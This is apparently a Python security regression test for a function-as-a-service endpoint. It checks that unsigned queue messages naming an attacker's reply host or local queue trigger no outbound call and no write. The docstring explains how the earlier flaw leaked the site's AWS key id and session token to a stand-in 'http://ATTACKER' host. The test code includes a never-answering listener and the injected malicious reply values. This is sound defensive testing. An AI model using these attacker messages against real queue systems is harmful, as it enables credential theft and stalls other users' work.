"""A message's ``reply`` is its sender's word until its signature checks out: an account that may
put messages on a signed endpoint's queue but holds no key must not get the endpoint to call
a host, or write into a folder, of its choosing.

Before: the pool opened the reply queue of every message it handed to a worker, before the
worker checked the signature (to learn how large a result may ride in the notice), and sent the
refusal notice there after. An unsigned message naming ``http://ATTACKER/000000000000/q``
had the site's pool make SigV4-signed SQS calls to that host (its access key id and session
token in the clear), and a host that accepts and never answers held the pool's dispatch, under
its lock, for minutes: every signed task of every user waited. One naming the attacker's own
local queue had the endpoint open that SQLite file and write into it.

The attacker here is another Unix account: it owns the listening host and its own queue; the
site's queue folder is shared with it (the local stand-in for SQS send permission)."""
from __future__ import annotations

import os
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

sys.path.insert(0, os.path.dirname(os.path.dirname(__file__)))
from helpers import QUEUE_DEPTH, free_port, python_as, running_endpoint, shared_script, wait_until  # noqa: E402
from multiuser.conftest import mu_shared, mu_users  # noqa: E402,F401 - fixtures: real accounts

import faas  # noqa: E402
from faas import signing  # noqa: E402

pytestmark = pytest.mark.slow
KEY = signing.new_key("k1")

# The attacker's "SQS endpoint": accepts, writes down who called, never answers.
HOST = """
import socket, sys, time
s = socket.socket()
s.bind(("127.0.0.1", int(sys.argv[1])))
s.listen(50)
s.settimeout(1.0)
print("listening", flush=True)
held = []
deadline = time.time() + float(sys.argv[2])
while time.time() < deadline:
    try:
        c, _ = s.accept()
    except socket.timeout:
        continue
    held.append(c)
    print("CALLED", c.recv(4096).decode(errors="replace").replace("\\r\\n", " | ")[:300], flush=True)
"""

# The attacker: its own queue, and two unsigned messages on the site's queue.
SEND = """
import json, sys, time, uuid
from faas.store.local_queue import LocalQueue
site_queue, own_queue, port = sys.argv[1], sys.argv[2], sys.argv[3]
LocalQueue.create(own_queue)
q = LocalQueue.open(site_queue)
claimed = []
def msg(reply):
    claimed.append(str(uuid.uuid4()))
    return json.dumps({"v": 1, "id": claimed[-1], "fn": "0" * 64, "rk": "A" * 43, "cid": "0" * 32,
                       "args": "", "reply": reply, "sent": time.time(), "expires": time.time() + 600})
try:
    q.send([msg(f"http://127.0.0.1:{port}/000000000000/q1"), msg(own_queue)])
except PermissionError:   # before: ringing the site's waiters (not his to list) failed after the commit
    pass
print("sent", *claimed, flush=True)   # the task ids the two messages claim
"""


def _refusal_lines(home: Path) -> list[str]:
    """The site pool's log lines that refuse a message or decline to tell its sender."""
    logs = "".join(p.read_text() for p in (home / "endpoints" / "signed").glob("blocks/**/pool.log"))
    return [line for line in logs.splitlines() if "REFUSED message" in line or "not telling the sender" in line]


def _refused_untold(home: Path, claimed: list[str], replies: list[str]) -> bool:
    """Whether the pool has refused, as unsigned, every message claiming a task of ``claimed``,
    and declined to tell every reply queue of ``replies``: its positive record that it took
    them (an absence of calls proves nothing before then)."""
    lines = _refusal_lines(home)
    return (all(any(f"(claims task {t}): unsigned;" in line for line in lines) for t in claimed)
            and all(any(f"its reply queue {r} is neither" in line for line in lines) for r in replies))


def test_an_unsigned_message_gets_no_call_to_its_reply(mu_users, mu_shared, monkeypatch):
    _, bob, _ = mu_users
    # the site's own AWS settings: credentials in its environment, no endpoint pinned (so a
    # queue URL's host is the one called, as on AWS)
    for k in ("AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_SQS", "AWS_PROFILE"):
        monkeypatch.delenv(k, raising=False)
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKIASITEKEYID")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "site-secret")
    monkeypatch.setenv("AWS_SESSION_TOKEN", "SITE-SESSION-TOKEN")
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
    home = mu_shared / f"site-{uuid.uuid4().hex[:6]}"
    home.mkdir()
    os.chmod(home, 0o755)
    bob_dir = mu_shared / f"bob-{uuid.uuid4().hex[:6]}"
    bob_dir.mkdir()
    os.chown(bob_dir, bob.pw_uid, bob.pw_gid)
    port = free_port()
    env = {"HOME": bob.pw_dir, "PATH": "/usr/bin:/bin",
           **{k: os.environ[k] for k in ("PYTHONPATH",) if k in os.environ}}
    # it listens far longer than the test runs: a call it refused after its deadline would go unseen
    host = subprocess.Popen([sys.executable, shared_script(mu_shared, "host.py", HOST), str(port), "300"],
                            user=bob.pw_uid, group=bob.pw_gid, extra_groups=[], env=env,
                            stdout=subprocess.PIPE, text=True)
    try:
        assert host.stdout.readline().strip() == "listening"
        with running_endpoint(home, name="signed", signing_keys=[KEY]) as cfg:
            c = faas.client(endpoint="signed", signing_key=KEY)
            fid = c.register_function(len)
            assert c.get_result(task_id=c.run(function_id=fid, args=("warm",)), timeout=60) == 4
            site_queue = cfg.queue_url("signed", home)
            queues = home / "queues"   # shared with bob: he may put messages on the site's queue
            os.chmod(home, 0o711)      # (FAAS_HOME is made 700; the site lets him through to it)
            os.chmod(queues, 0o1777)
            for f in queues.glob("signed.sqlite3*"):
                os.chmod(f, 0o666)
            own_queue = f"local://{bob_dir}/bobs"
            p = python_as(bob, shared_script(mu_shared, "send.py", SEND), site_queue, own_queue, str(port))
            assert p.returncode == 0 and p.stdout.startswith("sent "), p.stderr
            claimed = p.stdout.split()[1:]
            assert len(claimed) == 2, p.stdout
            replies = [f"http://127.0.0.1:{port}/000000000000/q1", own_queue]
            # Bob cannot ring the site's pool (its doorbell counts only the site's own rings): it
            # takes his messages when its long poll (5 s) ends. Until it has refused both, the
            # checks below would pass on a pool that never looked at them (a fixed sleep here let
            # the signed task's ring bring all three at once, and its result reach us before the
            # second refusal was logged).
            try:
                wait_until(lambda: _refused_untold(home, claimed, replies), timeout=60,
                           what="the pool to refuse both unsigned messages and tell neither sender")
            except AssertionError as e:
                raise AssertionError(f"{e}; its refusals so far: {_refusal_lines(home)}") from None
            t = time.monotonic()
            assert c.get_result(task_id=c.run(function_id=fid, args=("signed",)), timeout=30) == 6
            assert time.monotonic() - t < 10, "the signed task waited behind the attacker's host"
            c.close()
        count = python_as(bob, shared_script(mu_shared, "count.py", QUEUE_DEPTH), own_queue)
        assert count.returncode == 0 and count.stdout.strip() == "0", \
            f"the endpoint wrote into the attacker's queue: {count.stdout} {count.stderr}"
    finally:
        host.kill()
        out = host.stdout.read()
        host.wait()
    assert "CALLED" not in out, f"the site's pool called the attacker's host: {out}"
